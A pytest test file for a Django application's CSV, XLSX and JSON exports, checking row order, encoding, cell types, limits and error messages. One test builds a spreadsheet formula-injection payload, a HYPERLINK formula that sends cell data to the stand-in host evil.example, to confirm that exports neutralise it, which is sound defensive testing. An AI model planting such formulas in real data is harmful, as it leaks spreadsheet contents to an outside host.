"""Exports: exactly the filtered rows, in order, in files that open right and cannot run formulas."""

import csv
import datetime
import io
import json

import openpyxl
import pytest
from django.http import StreamingHttpResponse
from django.utils import timezone

from core import exports
from partnerships.models import MemberCountry, TargetMarket
from tests.factories import OutcomeFactory, PartnershipFactory, SectorFactory

pytestmark = pytest.mark.django_db
TODAY = timezone.localdate().isoformat()


def body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response):
    text = body(response).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def machine_names(response) -> dict[str, str]:
    """Each people's heading of this file's export (XLSX, labels=1 CSV) with its column's name."""
    from outcomes.exports import OutcomeExport
    from partnerships.exports import ClusterExport, PartnershipExport

    filename = response["Content-Disposition"].split('filename="')[1]
    export = next(
        e for e in (PartnershipExport, OutcomeExport, ClusterExport) if filename.startswith(e.stem)
    )
    return {column.heading: column.name for column in export.people_columns or export.columns}


def xlsx_rows(response):
    """The XLSX's first sheet, and its rows keyed by the columns' machine names."""
    sheet = openpyxl.load_workbook(io.BytesIO(body(response))).worksheets[0]
    header, *rows = sheet.iter_rows(values_only=True)
    names = machine_names(response)
    return sheet, [
        dict(zip([names[heading] for heading in header], row, strict=True)) for row in rows
    ]


@pytest.fixture
def data():
    food = SectorFactory(name="Food", slug="food")
    names = ["Mind the Gap – Health and Wellbeing for elderly", "Grain", "Apples", "Zucchini"]
    partnerships = [
        PartnershipFactory(name=name, sectors=[food], partner_count=7, country_count=5)
        for name in names
    ]
    PartnershipFactory(
        name="Aerospace alone", sectors=[SectorFactory(name="Aerospace", slug="aerospace")]
    )
    MemberCountry.objects.create(
        partnership=partnerships[0], country_id="SE", cross_border_country_id="DK"
    )
    MemberCountry.objects.create(partnership=partnerships[0], country_id="FI", position=1)
    TargetMarket.objects.create(partnership=partnerships[0], country_id="BR")
    TargetMarket.objects.create(
        partnership=partnerships[0], country_id="IN", tentative=True, position=1
    )
    return partnerships


def test_csv_has_every_filtered_row_across_pages_in_the_pages_order(client, settings, data):
    settings.PAGE_SIZE = 2
    page = client.get("/partnerships/", {"sector": "food", "sort": "-name"})
    response = client.get("/partnerships/", {"sector": "food", "sort": "-name", "export": "csv"})
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="partnerships-{TODAY}.csv"'
    rows = csv_rows(response)
    assert [row["name"] for row in rows] == [
        "Zucchini",
        "Mind the Gap – Health and Wellbeing for elderly",
        "Grain",
        "Apples",
    ]
    assert [p.name for p in page.context["object_list"]] == [
        "Zucchini",
        "Mind the Gap – Health and Wellbeing for elderly",
    ]


def test_csv_starts_with_a_byte_order_mark_unless_bom_0(client, data):
    assert body(client.get("/partnerships/", {"export": "csv"})).startswith("\ufeffname,".encode())
    assert body(client.get("/partnerships/", {"export": "csv", "bom": "0"})).startswith(b"name,")


def test_csv_cells_hold_codes_lists_and_urls(client, data):
    row = next(
        r
        for r in csv_rows(client.get("/partnerships/", {"export": "csv"}))
        if r["name"].startswith("Mind")
    )
    assert row["member_countries"] == "SE;DK;FI"
    assert row["member_country_entries"] == "SE-DK;FI"
    assert row["target_countries"] == "BR"
    assert row["tentative_target_countries"] == "IN"
    assert (row["partner_count"], row["country_count"], row["sectors"]) == ("7", "5", "Food")
    assert row["url"] == f"http://testserver/partnerships/{data[0].slug}/"


def test_json_has_the_same_rows_with_lists_as_arrays(client, data):
    response = client.get("/partnerships/", {"sector": "food", "export": "json"})
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"] == f'attachment; filename="partnerships-{TODAY}.json"'
    rows = json.loads(body(response))
    csv_version = csv_rows(client.get("/partnerships/", {"sector": "food", "export": "csv"}))
    assert [row["name"] for row in rows] == [row["name"] for row in csv_version]
    mind = rows[[row["name"] for row in rows].index(data[0].name)]
    assert mind["member_countries"] == ["SE", "DK", "FI"]
    assert mind["partner_count"] == 7


def test_xlsx_has_a_frozen_header_widths_and_typed_cells(client, data):
    OutcomeFactory(
        partnership=data[1], title="MoU with Chile", country_id="CL", date=datetime.date(2013, 3, 1)
    )
    response = client.get("/outcomes/", {"export": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="outcomes-{TODAY}.xlsx"'
    sheet, rows = xlsx_rows(response)
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width == 40
    assert sheet["A1"].font.bold
    assert rows[0]["title"] == "MoU with Chile"
    assert rows[0]["date"] == datetime.datetime(2013, 3, 1)
    assert sheet["K2"].number_format == "yyyy-mm-dd"
    assert rows[0]["year"] == 2013


def test_xlsx_partnerships_match_csv(client, data):
    _, xlsx = xlsx_rows(client.get("/partnerships/", {"export": "xlsx"}))
    csv_version = csv_rows(client.get("/partnerships/", {"export": "csv"}))
    assert [row["name"] for row in xlsx] == [row["name"] for row in csv_version]
    assert [row["partner_count"] for row in xlsx] == [
        int(r["partner_count"]) if r["partner_count"] else None for r in csv_version
    ]


# NUL is not here: PostgreSQL cannot store it and forms refuse it; see the unit test below.
@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_cells_come_out_inert_in_csv_and_xlsx(client, data, trigger):
    title = f'{trigger}HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    OutcomeFactory(partnership=data[1], title=title)
    row = csv_rows(client.get("/outcomes/", {"export": "csv"}))[0]
    assert row["title"] == "'" + title
    sheet, _ = xlsx_rows(client.get("/outcomes/", {"export": "xlsx"}))
    cell = sheet["G2"]
    assert sheet["G1"].value == "Title"
    # Stored as text, which a spreadsheet never runs: no quote shows.
    assert cell.data_type == "s"
    # XML reads a carriage return back as a line feed.
    assert cell.value in (title, title.replace("\r", "\n"))


def test_a_leading_nul_is_neutralised_and_xlsx_drops_control_characters(client, data):
    assert exports.neutralise("\0=1+1") == "'\0=1+1"
    OutcomeFactory(partnership=data[1], title="=1+1\x01\x1f")
    sheet, _ = xlsx_rows(client.get("/outcomes/", {"export": "xlsx"}))
    assert sheet["G2"].value == "=1+1"
    assert sheet["G2"].data_type == "s"


def test_numbers_stay_numbers_negative_ones_included():
    assert exports.people_cell(-5, "number") == -5
    assert exports.people_cell("-5", "text") == "-5"  # an XLSX text cell, never a formula
    assert exports._CSV_CELL["number"](-5) == -5
    assert exports._CSV_CELL["text"]("-5") == "'-5"
    assert exports._CSV_CELL["list"](["-a", "b"]) == "'-a;b"


def test_an_unknown_format_answers_400(client, data):
    response = client.get("/partnerships/", {"export": "docx"})
    assert response.status_code == 400
    assert (
        "Unknown export format “docx”. Use export=csv, export=xlsx or export=json." in response.text
    )


@pytest.mark.parametrize("params", [{"sector": "nope"}, {"bom": "yes"}, {"target_country": "XX"}])
def test_an_export_with_a_bad_parameter_answers_400_and_exports_nothing(client, data, params):
    response = client.get("/partnerships/", {**params, "export": "csv"})
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert "Content-Disposition" not in response


def test_xlsx_above_its_row_limit_answers_400_with_a_way_out(client, data, monkeypatch):
    monkeypatch.setattr(exports, "XLSX_ROW_LIMIT", 3)
    response = client.get("/partnerships/", {"export": "xlsx"})
    assert response.status_code == 400
    assert "XLSX exports hold at most 3 rows and this selection has 5" in response.text
    csv_response = client.get("/partnerships/", {"export": "csv"})
    assert csv_response.status_code == 200
    # Read to the end, as a server does: the stream's transaction stays open until it is.
    assert len(csv_rows(csv_response)) == 5


@pytest.mark.long
def test_a_streamed_csv_of_many_rows_is_complete(client, data):
    OutcomeFactory.create_batch(2500, partnership=data[1])  # more than one fetch chunk
    response = client.get("/outcomes/", {"export": "csv"})
    assert isinstance(response, StreamingHttpResponse)
    rows = csv_rows(response)
    assert len(rows) == 2500
    assert len({row["url"] for row in rows}) == 2500


def test_list_pages_link_their_exports_with_the_filters(client, data):
    response = client.get("/partnerships/", {"sector": "food", "page": "1"})
    assert 'href="?sector=food&amp;export=csv"' in response.text
    assert 'href="?sector=food&amp;export=xlsx"' in response.text


def test_the_exports_help_lists_every_column(client):
    from outcomes.exports import OutcomeExport
    from partnerships.exports import PartnershipExport

    response = client.get("/about/exports/")
    for column in [*PartnershipExport.columns, *OutcomeExport.columns]:
        assert f"<code>{column.name}</code>" in response.text


def test_docs_exports_md_lists_every_column():
    from django.conf import settings

    from outcomes.exports import OutcomeExport, ResultsExport
    from partnerships.exports import ClusterExport, EscpOverviewExport, PartnershipExport

    text = (settings.BASE_DIR / "docs" / "exports.md").read_text()
    exported = (PartnershipExport, OutcomeExport, ClusterExport, EscpOverviewExport, ResultsExport)
    for export in exported:
        for column in export.columns:
            assert f"| `{column.name}` | {column.kind} |" in text


def test_every_format_is_named_from_the_one_list(client, data, monkeypatch):
    # A format added to core.exports.FORMATS appears in every link, page and message at once.
    monkeypatch.setitem(exports.FORMATS, "ods", "OpenDocument")
    page = client.get("/partnerships/", {"sector": "aerospace"}).text
    assert 'export=ods" aria-describedby="export-label-list">OpenDocument</a>' in page
    help_page = client.get("/about/exports/").text
    assert "as CSV, Excel (XLSX), JSON or OpenDocument, with" in help_page
    assert "<code>export=json</code> or <code>export=ods</code> to" in help_page
    statistics = client.get("/statistics/").text
    assert "export=ods" in statistics
    message = client.get("/partnerships/", {"export": "docx"}).text
    assert "Use export=csv, export=xlsx, export=json or export=ods." in message
